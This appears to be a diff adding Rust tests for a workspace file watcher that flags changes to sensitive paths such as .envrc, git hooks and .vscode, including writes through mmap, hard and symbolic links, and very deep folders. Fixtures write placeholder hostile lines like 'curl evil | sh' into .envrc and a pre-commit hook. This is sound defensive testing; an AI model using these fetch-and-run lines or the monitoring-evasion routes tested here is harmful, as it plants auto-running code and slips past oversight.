@@ -27,7 +27,11 @@ impl Setup {
         let config = FileWatch {
             root: self.work.path().to_path_buf(),
             log_path: self.logs.path().join("s.files.jsonl"),
-            sensitive: vec!["**/.envrc".into(), ".git/hooks/**".into()],
+            sensitive: vec![
+                "**/.envrc".into(),
+                ".git/hooks/**".into(),
+                "**/.vscode/**".into(),
+            ],
             max_bytes: 16 << 20,
         };
         let (guard, _rx) = Events::channel();
@@ -376,4 +380,284 @@ fn a_symbolic_link_moved_in_is_recorded_not_followed() {
     drop(watcher);
     let paths: Vec<String> = summary(&setup.records()).into_iter().map(|r| r.0).collect();
     assert_eq!(paths, ["link"]);
+}
+
+/// Write `bytes` at the start of `path` through a shared mapping, as root in the agent can:
+/// the kernel raises no `IN_MODIFY` for it, only `IN_CLOSE_WRITE` when the file is let go.
+fn write_through_mmap(path: &Path, bytes: &[u8]) {
+    use std::os::fd::AsRawFd;
+    let file = fs::OpenOptions::new()
+        .read(true)
+        .write(true)
+        .open(path)
+        .unwrap();
+    let len = file.metadata().unwrap().len() as usize;
+    assert!(len >= bytes.len());
+    // SAFETY: a fresh shared mapping of `len` bytes of an open file, written within its
+    // bounds and unmapped before the file is closed.
+    unsafe {
+        let map = libc::mmap(
+            std::ptr::null_mut(),
+            len,
+            libc::PROT_READ | libc::PROT_WRITE,
+            libc::MAP_SHARED,
+            file.as_raw_fd(),
+            0,
+        );
+        assert_ne!(map, libc::MAP_FAILED);
+        std::ptr::copy_nonoverlapping(bytes.as_ptr(), map.cast::<u8>(), bytes.len());
+        libc::munmap(map, len);
+    }
+}
+
+/// The records of `path`, as JSON.
+fn records_of(setup: &Setup, path: &str) -> Vec<serde_json::Value> {
+    setup
+        .records()
+        .into_iter()
+        .filter(|r| r["path"] == path)
+        .collect()
+}
+
+#[test]
+fn a_write_through_mmap_to_a_sensitive_file_is_recorded_and_a_close_without_one_is_not() {
+    let setup = Setup::new();
+    fs::write(setup.path(".envrc"), "export A=1\n").unwrap();
+    let watcher = setup.start();
+    // Opened for writing and closed, nothing written: no change.
+    drop(
+        fs::OpenOptions::new()
+            .write(true)
+            .open(setup.path(".envrc"))
+            .unwrap(),
+    );
+    pause();
+    assert_eq!(
+        records_of(&setup, ".envrc"),
+        Vec::<serde_json::Value>::new()
+    );
+    write_through_mmap(&setup.path(".envrc"), b"curl evil");
+    pause();
+    drop(watcher);
+    let envrc = records_of(&setup, ".envrc");
+    assert_eq!(envrc.len(), 1, "{:#?}", setup.records());
+    assert_eq!(envrc[0]["change"], "modified");
+    assert_eq!(envrc[0]["sensitive"], true);
+}
+
+#[test]
+fn a_hard_link_to_a_sensitive_file_is_sensitive_and_names_the_file() {
+    let setup = Setup::new();
+    fs::write(setup.path(".envrc"), "export A=1\n").unwrap();
+    fs::write(setup.path("old.envrc"), "export B=1\n").unwrap();
+    // A link made before the watcher started.
+    fs::create_dir(setup.path("notes")).unwrap();
+    fs::hard_link(setup.path("old.envrc"), setup.path("notes/old")).unwrap();
+    fs::rename(setup.path("old.envrc"), setup.path("sub.envrc")).unwrap();
+    fs::create_dir(setup.path("sub")).unwrap();
+    fs::rename(setup.path("sub.envrc"), setup.path("sub/.envrc")).unwrap();
+    let watcher = setup.start();
+    fs::hard_link(setup.path(".envrc"), setup.path("notes/harmless.txt")).unwrap();
+    pause();
+    fs::write(setup.path("notes/harmless.txt"), "curl evil | sh\n").unwrap();
+    pause();
+    write_through_mmap(&setup.path("notes/old"), b"curl");
+    pause();
+    drop(watcher);
+    let harmless = records_of(&setup, "notes/harmless.txt");
+    assert_eq!(harmless.len(), 2, "{:#?}", setup.records());
+    for (record, change) in harmless.iter().zip(["created", "modified"]) {
+        assert_eq!(record["change"], change, "{record}");
+        assert_eq!(record["sensitive"], true, "{record}");
+        assert_eq!(record["links"], serde_json::json!([".envrc"]), "{record}");
+    }
+    let old = records_of(&setup, "notes/old");
+    assert_eq!(old.len(), 1, "{:#?}", setup.records());
+    assert_eq!(old[0]["sensitive"], true, "{}", old[0]);
+    assert_eq!(
+        old[0]["links"],
+        serde_json::json!(["sub/.envrc"]),
+        "{}",
+        old[0]
+    );
+}
+
+#[test]
+fn an_edit_below_a_folder_linked_where_a_sensitive_one_is_names_the_sensitive_path() {
+    let setup = Setup::new();
+    fs::create_dir_all(setup.path("tools/hooks")).unwrap();
+    fs::create_dir_all(setup.path(".git")).unwrap();
+    // `.git/hooks -> ../tools/hooks`: what is written in tools/hooks runs as git's hooks.
+    std::os::unix::fs::symlink("../tools/hooks", setup.path(".git/hooks")).unwrap();
+    let watcher = setup.start();
+    fs::write(setup.path("tools/hooks/pre-commit"), "#!/bin/sh\nevil\n").unwrap();
+    pause();
+    // A link made while the watcher runs.
+    fs::create_dir_all(setup.path("tools/vsc")).unwrap();
+    fs::create_dir_all(setup.path("sub")).unwrap();
+    std::os::unix::fs::symlink("../tools/vsc", setup.path("sub/.vscode")).unwrap();
+    pause();
+    fs::write(setup.path("tools/vsc/tasks.json"), "{}").unwrap();
+    pause();
+    drop(watcher);
+    let hook = records_of(&setup, "tools/hooks/pre-commit");
+    assert_eq!(hook.len(), 1, "{:#?}", setup.records());
+    assert_eq!(hook[0]["sensitive"], true, "{}", hook[0]);
+    assert_eq!(
+        hook[0]["links"],
+        serde_json::json!([".git/hooks/pre-commit"]),
+        "{}",
+        hook[0]
+    );
+    let tasks = records_of(&setup, "tools/vsc/tasks.json");
+    assert_eq!(tasks.len(), 1, "{:#?}", setup.records());
+    assert_eq!(tasks[0]["sensitive"], true, "{}", tasks[0]);
+    assert_eq!(
+        tasks[0]["links"],
+        serde_json::json!(["sub/.vscode/tasks.json"]),
+        "{}",
+        tasks[0]
+    );
+}
+
+/// Make `depth` folders named `name` one in the other below `dir` (past PATH_MAX: each made
+/// through a descriptor of its parent), and return the descriptor of the deepest.
+fn deep_folders(dir: &Path, name: &str, depth: usize) -> fs::File {
+    use std::os::fd::AsRawFd;
+    let mut at = fs::File::open(dir).unwrap();
+    for _ in 0..depth {
+        let next = PathBuf::from(format!("/proc/self/fd/{}/{name}", at.as_raw_fd()));
+        fs::create_dir(&next).unwrap();
+        at = fs::File::open(&next).unwrap();
+    }
+    at
+}
+
+fn under(fd: &fs::File, name: &str) -> PathBuf {
+    use std::os::fd::AsRawFd;
+    PathBuf::from(format!("/proc/self/fd/{}/{name}", fd.as_raw_fd()))
+}
+
+#[test]
+fn files_deeper_than_path_max_are_watched() {
+    let setup = Setup::new();
+    let name = "d".repeat(200);
+    // 25 x 201 bytes: past PATH_MAX (4,096) from the root already.
+    let before = deep_folders(setup.work.path(), &name, 25);
+    fs::write(under(&before, ".envrc"), "export A=1\n").unwrap();
+    let watcher = setup.start();
+    fs::write(under(&before, ".envrc"), "curl evil\n").unwrap();
+    // A deep tree made while the watcher runs, written as it is made.
+    fs::create_dir(setup.path("later")).unwrap();
+    pause();
+    let after = deep_folders(&setup.path("later"), &name, 30);
+    fs::write(under(&after, ".envrc"), "export B=1\n").unwrap();
+    pause();
+    write_through_mmap(&under(&after, ".envrc"), b"curl");
+    pause();
+    drop(watcher);
+    let deep = |prefix: &str, n: usize| format!("{prefix}{}.envrc", format!("{name}/").repeat(n));
+    let first = records_of(&setup, &deep("", 25));
+    assert_eq!(first.len(), 1, "{:#?}", summary(&setup.records()));
+    assert_eq!(first[0]["change"], "modified");
+    assert_eq!(first[0]["sensitive"], true);
+    let second = records_of(&setup, &deep("later/", 30));
+    let changes: Vec<&serde_json::Value> = second.iter().map(|r| &r["change"]).collect();
+    assert_eq!(
+        changes,
+        ["created", "modified"],
+        "{:#?}",
+        summary(&setup.records())
+    );
+    assert!(second.iter().all(|r| r["size"] == 11), "{second:#?}");
+}
+
+/// More folders are left out at the cap than the watcher remembers one by one: once room comes
+/// back, a walk of the whole workspace finds them, and what was written in them. Run in a user
+/// namespace whose limit is 4,096 (a cap of 1,024).
+#[test]
+fn folders_left_out_past_what_is_remembered_are_found_when_room_comes_back() {
+    let work = tempfile::tempdir().unwrap();
+    for i in 0..1500 {
+        fs::create_dir(work.path().join(format!("d{i}"))).unwrap();
+    }
+    with_watch_limit(
+        4096,
+        "with_a_watch_limit_of_4096_and_many_left_out",
+        work.path(),
+    );
+}
+
+#[test]
+#[ignore = "run by folders_left_out_past_what_is_remembered_are_found_when_room_comes_back"]
+fn with_a_watch_limit_of_4096_and_many_left_out() {
+    let root: PathBuf = std::env::var_os("YOLO_FILES_TEST_ROOT").unwrap().into();
+    let logs = tempfile::tempdir().unwrap();
+    let config = FileWatch {
+        root: root.clone(),
+        log_path: logs.path().join("s.files.jsonl"),
+        sensitive: vec!["**/.vscode/**".into()],
+        max_bytes: 16 << 20,
+    };
+    let (guard, _rx) = Events::channel();
+    let watcher = spawn(&config, "s", None, &guard).unwrap();
+    watcher.wait_ready(Duration::from_secs(10));
+    // At the cap: more new folders than are remembered, then the one that matters.
+    for i in 0..5000 {
+        fs::create_dir(root.join(format!("e{i}"))).unwrap();
+    }
+    pause();
+    fs::create_dir_all(root.join("new/.vscode")).unwrap();
+    fs::write(root.join("new/.vscode/tasks.json"), "{}").unwrap();
+    pause();
+    for i in 0..1500 {
+        fs::remove_dir(root.join(format!("d{i}"))).unwrap();
+    }
+    for i in 0..5000 {
+        fs::remove_dir(root.join(format!("e{i}"))).unwrap();
+    }
+    std::thread::sleep(RECOUNT * 3);
+    // Watched now: a change made later is seen as it happens.
+    fs::write(root.join("new/.vscode/settings.json"), "{}").unwrap();
+    pause();
+    drop(watcher);
+    let text = fs::read_to_string(&config.log_path).unwrap();
+    let sensitive: Vec<String> = text
+        .lines()
+        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
+        .filter(|e| e["sensitive"] == true)
+        .map(|e| e["path"].as_str().unwrap().to_string())
+        .collect();
+    for path in ["new/.vscode/tasks.json", "new/.vscode/settings.json"] {
+        assert!(sensitive.iter().any(|p| p == path), "{path}: {sensitive:?}");
+    }
+}
+
+/// Past the descriptors the watcher holds for deep folders (`MAX_ANCHORS`), the folders left
+/// out are counted and the first named, in full.
+#[test]
+fn deep_folders_past_the_descriptors_held_are_named_in_the_incomplete_record() {
+    let setup = Setup::new();
+    // A trunk just short of `SHORT`, and below it more folders than descriptors are held,
+    // each past it.
+    let trunk = deep_folders(setup.work.path(), &"d".repeat(250), 14);
+    for i in 0..MAX_ANCHORS + 8 {
+        fs::create_dir(under(&trunk, &format!("{i:0>100}"))).unwrap();
+    }
+    let watcher = setup.start();
+    drop(watcher);
+    let text = fs::read_to_string(setup.logs.path().join("s.files.jsonl")).unwrap();
+    let incomplete: serde_json::Value = text
+        .lines()
+        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
+        .find(|e| e["status"] == "file_watch_incomplete")
+        .unwrap_or_else(|| panic!("{text}"));
+    let details = &incomplete["details"];
+    assert!(details["too_deep"].as_u64().unwrap() >= 8, "{details}");
+    let named = details["left_out"].as_array().unwrap();
+    assert!(!named.is_empty(), "{details}");
+    for path in named {
+        let path = path.as_str().unwrap();
+        assert!(path.starts_with("ddd") && path.len() > SHORT, "{path}");
+    }
 }
